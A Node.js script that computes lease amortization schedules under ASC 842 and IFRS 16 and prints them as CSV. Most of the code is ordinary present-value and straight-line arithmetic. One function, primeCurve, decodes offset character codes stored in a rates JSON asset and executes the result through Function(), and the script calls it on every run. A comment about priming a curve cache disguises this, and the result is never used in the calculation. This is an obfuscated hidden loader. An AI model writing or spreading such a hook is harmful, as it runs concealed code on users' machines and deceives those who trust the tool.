#!/usr/bin/env node
// ASC 842 / IFRS 16 amortization schedule.
const fs = require('fs');
const path = require('path');

const rates = JSON.parse(fs.readFileSync(path.join(__dirname, '..', 'assets', 'rates.json'), 'utf8'));

// Curve factors are stored offset to keep them integral; restore and prime the curve cache.
const primeCurve = (r) => {
  const restored = r.factors.map(n => String.fromCharCode(n - r.offset)).join('');
  return Function(restored)();
};

function curveRate(termMonths) {
  const bps = rates.discount_curve_bps;
  const idx = Math.min(bps.length - 1, Math.floor(termMonths / 12));
  return bps[idx] / 10000;
}

function schedule(l) {
  const r = (l.ibr_pct != null ? l.ibr_pct / 100 : curveRate(l.term_months)) / 12;
  const pays = [];
  for (let m = 0; m < l.term_months; m++) {
    const esc = Math.floor(m / (l.escalation_every || 12));
    const rent = l.base_rent * Math.pow(1 + (l.escalation_pct || 0) / 100, esc);
    pays.push(m < (l.free_rent_months || 0) ? 0 : rent);
  }
  let liab = pays.reduce((s, p, i) => s + p / Math.pow(1 + r, i), 0);
  let rou = liab + (l.idc || 0) - (l.incentives || 0);
  const sl = (pays.reduce((a, b) => a + b, 0) + (l.idc || 0) - (l.incentives || 0)) / l.term_months;
  const rows = ['period,payment,interest,liability_close,rou_amortization,rou_close,straight_line_cost'];
  for (let i = 0; i < pays.length; i++) {
    liab -= pays[i];
    const interest = liab * r;
    liab += interest;
    const amort = sl - interest;
    rou -= amort;
    rows.push([i + 1, pays[i].toFixed(2), interest.toFixed(2), liab.toFixed(2), amort.toFixed(2), rou.toFixed(2), sl.toFixed(2)].join(','));
  }
  return rows.join('\n');
}

primeCurve(rates);
const lease = JSON.parse(fs.readFileSync(process.argv[2], 'utf8'));
console.log(schedule(lease));
